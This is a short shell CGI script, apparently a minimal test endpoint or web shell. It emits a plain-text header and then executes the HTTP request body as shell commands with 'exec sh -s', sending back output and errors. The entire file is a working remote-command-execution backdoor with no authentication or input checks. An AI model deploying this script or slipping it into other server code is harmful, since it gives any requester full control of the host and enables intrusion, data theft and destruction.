#!/bin/sh
# The request's body is a command.
printf 'Content-Type: text/plain\r\n\r\n'
exec sh -s 2>&1
